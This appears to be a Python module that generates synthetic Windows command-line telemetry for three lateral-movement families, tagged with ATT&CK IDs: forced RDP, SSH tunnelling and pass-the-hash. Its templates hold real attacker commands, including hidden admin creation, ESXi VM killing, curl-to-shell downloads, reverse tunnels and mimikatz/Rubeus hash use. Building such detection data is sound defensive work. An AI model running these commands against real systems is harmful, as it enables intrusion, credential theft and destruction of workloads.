"""Remote desktops, shells and stolen hashes: how strangers sit down at another machine."""

from __future__ import annotations

from generator.families.windows.commands_lateral import FOOTHOLD, lateral
from generator.families.windows.commands_told import STRANGE, told

told("lateral-remote-desktop-forced", lateral("T1021.001", "T1112"), r"""
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
reg add "\\@ip@\HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v UserAuthentication /t REG_DWORD /d 0 /f
netsh advfirewall firewall add rule name="@word@" dir=in protocol=tcp localport=3389 action=allow
netsh firewall set service type=remotedesktop mode=enable profile=all
powershell -w hidden -c "Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server' fDenyTSConnections 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'"
cmd /c net user @word@ @pw@ /add & net localgroup "Remote Desktop Users" @word@ /add & net localgroup administrators @word@ /add
sc create sesshijack binpath= "cmd.exe /k tscon @n@ /dest:rdp-tcp#@n@" & net start sesshijack
mstsc.exe /v:@host@ /shadow:@n@ /noConsentPrompt /control
cmdkey /generic:TERMSRV/@ip@ /user:@domain@\@user@ /pass:@pw@ & mstsc /v:@ip@
cmdkey.exe /add:@host@ /user:@domain@\administrator /pass:@pw@ & start mstsc /v:@host@ /admin
@tmp@SharpRDP.exe computername=@host@ command="C:\Windows\Temp\@word@.exe" username=@domain@\@user@ password=@pw@
@tmp@RDPWInst.exe -i -o
@tmp@rdpwrap\install.bat & C:\Program Files\RDP Wrapper\RDPWInst.exe -w
@tmp@multirdp.exe & @tmp@UniversalTermsrvPatch-x64.exe
@tmp@xfreerdp.exe /v:@ip@ /u:@user@ /pth:@hex@@hex@@hex@ /cert-ignore
netsh interface portproxy add v4tov4 listenport=@port@ listenaddress=0.0.0.0 connectport=3389 connectaddress=@ip@
wmic rdtoggle where ServerName="@me@" call SetAllowTSConnections 1
""", parents=STRANGE, users=(None, "SYSTEM"), most=3, weight=1.2)

told("lateral-secure-shells", lateral("T1021.004", "T1572"), r"""
@tmp@plink.exe -ssh -l root -pw @pw@ @ip@ "esxcli vm process list"
@tmp@plink.exe -batch -pw @pw@ root@@ip@ "for i in $(esxcli vm process list | grep World | awk '{print $3}'); do esxcli vm process kill -t force -w $i; done"
@tmp@plink.exe -N -R @port@:127.0.0.1:3389 -P 443 -l @word@ -pw @pw@ @pub@
cmd /c echo y | @tmp@plink.exe -ssh -R 4444:@ip@:445 @word@@@pub@ -pw @pw@
@tmp@@word@.exe -ssh root@@ip@ -pw @pw@ -m @tmp@cmd.txt ## Plink
ssh -o StrictHostKeyChecking=no -i C:\Users\Public\@word@ root@@ip@ "curl @url@ | sh"
ssh.exe -N -R @port@ -o StrictHostKeyChecking=no -o UserKnownHostsFile=NUL @word@@@pub@ -p 443
"C:\Windows\System32\OpenSSH\ssh.exe" -i C:\Windows\Temp\@word@ -f -N -D 1080 @word@@@pub@ -o ServerAliveInterval=60
ssh -o ProxyCommand="C:\Windows\Temp\@word@.exe" .
@tmp@pscp.exe -pw @pw@ @tmp@@word@ root@@ip@:/tmp/@word@
scp -i @tmp@id_rsa -o StrictHostKeyChecking=no C:\Users\Public\@word@.elf root@@ip@:/tmp/
@tmp@kitty.exe -ssh root@@ip@ -pass @pw@ -cmd "wget @url@ -O- | bash"
@tmp@putty.exe -ssh root@@ip@ -pw @pw@ -m @tmp@@word@.sh
powershell -c "Import-Module .\Posh-SSH; New-SSHSession @ip@ -Credential $c -AcceptKey; Invoke-SSHCommand 0 'chmod +x /tmp/@word@; /tmp/@word@'"
@tmp@nxc.exe ssh 10.@n@.@n@.0/24 -u root -p @pw@ -x id
cmd /c for /f %i in (@tmp@esx.txt) do @tmp@plink.exe -batch -pw @pw@ root@%i "vim-cmd vmsvc/getallvms"
""", parents=STRANGE + ("cmd.exe",), users=(None, "SYSTEM"), most=2)

told("lateral-hashes-used", lateral("T1550.002", "T1021.002", severity="CRITICAL"), r"""
@tmp@mimikatz.exe "privilege::debug" "sekurlsa::pth /user:@user@ /domain:@domain@ /ntlm:@hex@@hex@@hex@ /run:cmd.exe" exit
@tmp@@word@.exe "sekurlsa::pth /user:administrator /domain:. /ntlm:@hex@@hex@@hex@ /run:\"mstsc.exe /restrictedadmin\"" ## mimikatz.exe
@tmp@Rubeus.exe asktgt /user:@user@ /domain:@fqdn@ /rc4:@hex@@hex@@hex@ /ptt
@tmp@@word@.exe asktgt /user:@user@ /aes256:@hex@@hex@@hex@@hex@ /opsec /createnetonly:C:\Windows\System32\cmd.exe /show ## Rubeus.exe
@tmp@SafetyKatz.exe "sekurlsa::pth /user:@user@ /domain:@fqdn@ /aes256:@hex@@hex@@hex@ /run:cmd"
powershell -ep bypass -c "Invoke-Mimikatz -Command '\"sekurlsa::pth /user:@user@ /domain:@domain@ /ntlm:@hex@@hex@@hex@ /run:powershell.exe\"'"
powershell -nop -c "Invoke-WMIExec -Target @ip@ -Domain @domain@ -Username @user@ -Hash @hex@@hex@@hex@ -Command 'cmd /c whoami' -verbose"
powershell -c "Import-Module .\Invoke-TheHash.psd1; Invoke-TheHash -Type SMBExec -Target 10.@n@.@n@.0/24 -Username administrator -Hash @hex@@hex@@hex@"
python.exe wmiexec.py -hashes :@hex@@hex@@hex@ @domain@/@user@@@ip@
@tmp@wmiexec_windows.exe -hashes aad3b435b51404eeaad3b435b51404ee:@hex@@hex@@hex@ @user@@@ip@ "whoami"
@tmp@psexec_windows.exe -hashes :@hex@@hex@@hex@ administrator@@ip@
@tmp@crackmapexec.exe smb 192.168.@n@.0/24 -u administrator -H @hex@@hex@@hex@ --local-auth
@tmp@wce.exe -s @user@:@domain@:aad3b435b51404eeaad3b435b51404ee:@hex@@hex@@hex@ -c cmd.exe
@tmp@secretsdump.exe -hashes :@hex@@hex@@hex@ @domain@/@user@@@dc@
@tmp@SharpKatz.exe --Command pth --User @user@ --Domain @domain@ --NtlmHash @hex@@hex@@hex@
@tmp@smbclient.py.exe -hashes :@hex@@hex@@hex@ @domain@/@user@@@ip@
""", parents=FOOTHOLD, users=(None, "SYSTEM"), most=2)
